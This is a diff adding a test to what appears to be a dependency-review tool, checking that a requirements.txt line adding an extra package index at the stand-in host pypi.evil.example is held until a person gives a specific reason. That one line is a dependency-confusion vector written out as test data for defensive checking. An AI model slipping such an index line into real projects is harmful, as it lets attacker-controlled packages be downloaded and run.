@@ -56,6 +56,16 @@ def test_a_name_one_letter_from_one_that_is_there_waits_for_a_persons_word(tmp_p
     assert "⚠ one letter from `requests`" in stage.bmad("report", "--base", base).out
 
 
+def test_a_known_name_from_another_place_waits_for_a_persons_word(tmp_path: Path) -> None:
+    stage, base = staged(tmp_path, "--extra-index-url https://pypi.evil.example/simple")
+    ended = stage.bmad("act", stage.first, code=4)
+    words = "requirements.txt `--extra-index-url https://pypi.evil.example/simple`"
+    assert words in ended.err + stage.bmad("inbox").out
+    stage.bmad("act", stage.first, "--again", "--why", "Our own index is meant.", code=4)
+    stage.bmad("act", stage.first, "--again", "--why", "https://pypi.evil.example/simple is our own.")
+    stage.gate(base)
+
+
 def test_a_change_that_declares_nothing_says_nothing(tmp_path: Path) -> None:
     stage, base = staged(tmp_path)
     stage.bmad("act", stage.first)
